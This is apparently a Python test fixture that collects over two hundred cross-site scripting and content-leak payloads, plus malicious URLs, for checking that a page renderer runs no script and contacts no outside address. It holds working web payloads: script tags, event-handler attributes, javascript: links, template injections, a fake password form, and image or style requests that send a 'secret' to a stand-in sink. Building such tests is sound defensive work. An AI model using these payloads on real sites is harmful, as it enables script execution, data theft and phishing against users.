"""Hostile text for the page: what an article or a model might say to make a browser run something or ask somebody.

`SINK` in a payload stands for an address that counts who asks. Each payload sets `window.__ran`, or asks the sink, if
it works; none may.
"""

from __future__ import annotations

SINK = "{sink}"

_WRITTEN = (
    # scripts
    "<script>window.__ran=1</script>",
    "<SCRIPT SRC='{sink}/s.js'></SCRIPT>",
    "<script type=module>import '{sink}/m.js'; window.__ran=1</script>",
    "</script><script>window.__ran=1</script>",
    "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    "<script/x>window.__ran=1</script\n>",
    "</textarea><script>window.__ran=1</script>",
    "</title></style><script>window.__ran=1</script>",
    "<!--><script>window.__ran=1</script-->",
    "<noscript><p title='</noscript><script>window.__ran=1</script>'></noscript>",
    "<template><script>window.__ran=1</script></template>",
    '"><script>window.__ran=1</script>',
    "'><script>window.__ran=1</script>",
    # attributes that run
    "<img src=x onerror='window.__ran=1'>",
    "<img src='{sink}/i.png' onload=window.__ran=1>",
    "<svg onload='window.__ran=1'></svg>",
    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
    "<body onload=window.__ran=1>",
    "<details open ontoggle=window.__ran=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.__ran=1>",
    "<video><source onerror=window.__ran=1></video>",
    "<div onpointerover=window.__ran=1 style='position:fixed;inset:0'>x</div>",
    '" onmouseover="window.__ran=1" x="',
    "' autofocus onfocus='window.__ran=1' x='",
    "x onmouseover=window.__ran=1",
    "<marquee onstart=window.__ran=1>x</marquee>",
    "<xss id=x tabindex=1 onfocusin=window.__ran=1>x</xss>",
    # addresses that run
    "<a href='javascript:window.__ran=1'>click</a>",
    "[click](javascript:window.__ran=1)",
    "[click](java&#115;cript:window.__ran=1)",
    "<javascript:window.__ran=1>",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
    "<a href='\x01javascript:window.__ran=1'>click</a>",
    "<form action='javascript:window.__ran=1'><button>go</button></form>",
    "<object data='javascript:window.__ran=1'></object>",
    # templates of the frame: its HTML component compiles those
    "${window.__ran=1}",
    "`;window.__ran=1;`",
    "`+(window.__ran=1)+`",
    "{{constructor.constructor('window.__ran=1')()}}",
    "{{#with (lookup this 'constructor')}}{{lookup this 'constructor'}}{{/with}}",
    "${fetch('{sink}/t')}",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
    "\\`;fetch('{sink}/e');//",
    # asking somebody: images, styles, media, frames, hints
    "![x]({sink}/md.png?q=secret)",
    "![x][1]\n\n[1]: {sink}/ref.png",
    "<img src='{sink}/a.png'>",
    "<img srcset='{sink}/b.png 1x, {sink}/c.png 2x'>",
    "<picture><source srcset='{sink}/d.png'><img></picture>",
    "<svg><image href='{sink}/e.svg'/></svg>",
    "<svg><use href='{sink}/f.svg#x'/></svg>",
    "<style>@import '{sink}/g.css';</style>",
    "<style>@font-face{font-family:x;src:url({sink}/h.woff)} *{font-family:x}</style>",
    "<div style=\"background:url('{sink}/i.png')\">x</div>",
    "<link rel=stylesheet href='{sink}/j.css'>",
    "<link rel=prefetch href='{sink}/k'><link rel=preload as=image href='{sink}/l.png'>",
    "<link rel=dns-prefetch href='{sink}'><link rel=preconnect href='{sink}'>",
    "<video poster='{sink}/m.png' src='{sink}/m.mp4' autoplay></video>",
    "<audio src='{sink}/n.mp3' autoplay></audio>",
    "<iframe src='{sink}/o'></iframe>",
    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
    "<embed src='{sink}/p'><object data='{sink}/q'></object>",
    '<meta http-equiv=refresh content="0;url={sink}/r">',
    "<base href='{sink}/'>",
    "<body background='{sink}/s.png'>",
    "<table background='{sink}/t.png'><tr><td>x</td></tr></table>",
    "<input type=image src='{sink}/u.png'>",
    "```mermaid\ngraph TD; A[\"<img src='{sink}/v.png'>\"]\n```",
    "$$\\href{{sink}/w}{x}\\includegraphics{{sink}/x.png}$$",
    "<math><mtext><img src='{sink}/y.png'></mtext></math>",
    "<a ping='{sink}/ping' href='{sink}/z'>x</a>",
    # forms and links that fish
    "<form action='{sink}/login'><input name=password><button>Log in</button></form>",
    "[Log in again]({sink}/login)",
    "{sink}/bare",
    "<button formaction='{sink}/b' form=x>go</button>",
    "<div role=link data-source href='{sink}/src'>x</div>",
    "<a data-source href='{sink}/src'>x</a>",
    # broken text
    "<<img src=x onerror=window.__ran=1//",
    "\ud800<img src=x onerror=window.__ran=1>\udfff",
    "\x00<scr\x00ipt>window.__ran=1</scr\x00ipt>",
    "\u202e<img src=x onerror=window.__ran=1>\u202d",
    "&lt;img src=x onerror=window.__ran=1&gt;",
    "&#60;img src=x onerror=window.__ran=1&#62;",
    "＜img src=x onerror=window.__ran=1＞",
    "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
    "<" * 500 + "img src=x onerror=window.__ran=1>",
)

_HANDLERS = (
    "onabort onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle onblur oncanplay "
    "onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondrop "
    "ondurationchange onended onerror onfocus onfocusin onfocusout onformdata ongotpointercapture oninput oninvalid "
    "onkeydown onkeyup onload onloadstart onmousedown onmouseenter onmousemove onmouseover onmousewheel onpaste "
    "onplay onpointerdown onpointerenter onpointermove onpointerover onpointerrawupdate onscroll onscrollend "
    "onsearch onselect onselectionchange onselectstart onsubmit ontoggle ontouchstart ontransitionend onwheel"
).split()
_ELEMENTS = (
    "applet area audio base bgsound button embed fencedframe form frame frameset iframe image img input isindex "
    "keygen layer link marquee math meta noembed object option param picture plaintext portal select source style "
    "svg table template textarea track video xmp"
).split()
_MADE = (
    *(f"<p {name}=window.__ran=1 tabindex=0 autofocus style='position:fixed;inset:0'>x</p>" for name in _HANDLERS),
    *(f"\"></{tag}><{tag} src='{SINK}/{tag}' href='{SINK}/{tag}' data='{SINK}/{tag}' onload=window.__ran=1>"
      for tag in _ELEMENTS),
    *(f"<svg><{tag} xlink:href='{SINK}/{tag}' href='javascript:window.__ran=1' onbegin=window.__ran=1>x</{tag}></svg>"
      for tag in "a animate animateMotion feImage foreignObject image mpath pattern script set style use".split()),
    *(f"<a href='{scheme}window.__ran=1'>x</a> [x]({scheme}window.__ran=1) {scheme}window.__ran=1"
      for scheme in ("JAVASCRIPT:", "java\tscript:", "java\nscript:", "\x0bjavascript:", "javascript&colon;",
                     "javascript:/**/", "view-source:javascript:", "vbscript:", "data:text/html,<script>")),
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*_WRITTEN, *_MADE)
"""Over two hundred: those written by hand, and one for each event handler, element and scheme."""

ADDRESSES: tuple[str, ...] = (
    "javascript:window.__ran=1",
    "JaVaScRiPt:window.__ran=1",
    " javascript:window.__ran=1",
    "java\tscript:window.__ran=1",
    "data:text/html,<script>window.__ran=1</script>",
    "vbscript:window.__ran=1",
    "file:///etc/passwd",
    "//evil.example/x",
    "/\\evil.example/x",
    "http:evil.example",
    "https://good.example@evil.example/",
    "https://good.example\\@evil.example/",
    "https://good.example%2f@evil.example/",
    "https://evil.example\u202emoc.doog",
    'https://good.example" onmouseover="window.__ran=1',
    "https://good.example'><script>window.__ran=1</script>",
    "https:///evil.example",
    "https://evil.example:99999/",
    "https://",
    "https://ex ample.example/",
    "https://[::1",
    "ftp://good.example/x",
    "blob:https://good.example/x",
    "intent://x#Intent;scheme=http;end",
)
"""Addresses of articles that may never become a link."""


def aimed(payload: str, sink: str) -> str:
    """`payload` with the address of the sink in it."""
    return payload.replace(SINK, sink)
